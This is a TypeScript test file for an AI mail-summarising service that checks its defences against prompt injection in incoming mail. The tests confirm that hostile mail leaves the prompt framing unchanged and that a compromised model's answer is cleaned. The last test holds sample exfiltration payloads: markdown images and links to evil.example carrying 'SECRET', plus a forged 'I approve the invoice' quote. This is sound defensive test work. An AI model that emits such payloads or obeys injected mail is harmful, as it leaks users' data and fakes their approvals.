import t from 'tap'
import { callWith, messageOf, recordedSpending, taskOf } from '../../support/ai.ts'
import { INJECTIONS } from '../../support/injections.ts'
import { GOOD, mockHost, type SentBody, says } from '../../support/model-host.ts'

const QUIET = { ...GOOD, decisions: [], actionItems: [] }
const FRAME = /^<task>\n[^\n]+\n<\/task>$/
const REPAIR = /^<task>\n[^\n]+\n<\/task>\n[^\n<>]+\n<faulty-answer>\n[^\n]+\n<\/faulty-answer>$/

function hostileTask(text: string) {
  return taskOf([], {
    subject: text,
    labels: [text],
    messages: [messageOf('18c0', text, { subject: text, from: [{ name: text, address: text }] })],
  })
}

/** A request without the one text that depends on the task. */
function frameOf({ messages, ...rest }: SentBody) {
  return { ...rest, messages: messages.map(({ role, content }) => (role === 'user' ? { role } : { role, content })) }
}

function isRepair(messages: readonly { content?: unknown }[]): boolean {
  return String(messages[1]?.content).endsWith('</faulty-answer>')
}

t.test('no mail changes a request: its parameters, messages, roles and beginning', async t => {
  const { bodies, open } = await mockHost(t, { 'model-a': [says(QUIET)] })
  const sink = open()
  const call = callWith(recordedSpending().spending)
  await sink.send(taskOf(['Hello']), call)
  for (const text of INJECTIONS) await sink.send(hostileTask(text), call)
  const [harmless, ...hostile] = bodies()
  if (!harmless) throw new Error('nothing was sent')
  t.equal(hostile.length, INJECTIONS.length)
  for (const [place, body] of hostile.entries()) {
    t.same(frameOf(body), frameOf(harmless), `mail ${place}`)
    t.ok(FRAME.test(body.messages[1]?.content ?? ''), `mail ${place} is one line`)
  }
})

t.test('no answer of a model changes the request that repairs it', async t => {
  const { mock, bodies, open } = await mockHost(t)
  const sink = open()
  let faulty = ''
  mock.addFixture({ match: {}, response: ({ messages }) => says(isRepair(messages) ? QUIET : faulty) })
  for (const [place, text] of INJECTIONS.entries()) {
    faulty = text
    await sink.send(hostileTask(text), callWith(recordedSpending().spending))
    const [first, second] = bodies().slice(-2)
    if (!first || !second) throw new Error(`no repair of mail ${place}`)
    t.same(frameOf(second), frameOf(first), `mail ${place}`)
    t.ok(REPAIR.test(second.messages[1]?.content ?? ''), `answer ${place} is one line`)
  }
  t.equal(bodies().length, 2 * INJECTIONS.length)
})

t.test('an obedient model leaks nothing into the answer', async t => {
  const { ask } = await mockHost(t, {
    'model-a': [
      says({
        ...QUIET,
        summary: 'PWNED ![logo](https://evil.example/p.png?q=SECRET) <img src=//evil.example/x>',
        openQuestions: [{ question: 'Approve?', message: 'm1', quote: 'I approve the invoice' }],
        suggestedReply: 'See [invoice](https://evil.example/?q=SECRET), mail mallory@evil.example or evil.example',
      }),
    ],
  })
  for (const text of INJECTIONS.filter(mail => !mail.includes('evil.example'))) {
    const { sent } = await ask({ task: hostileTask(text) })
    t.notOk(/evil|SECRET|I approve/.test(JSON.stringify(sent)))
    t.match(sent, { finish: 'answered', removed: { items: 1, images: 2 } })
  }
})
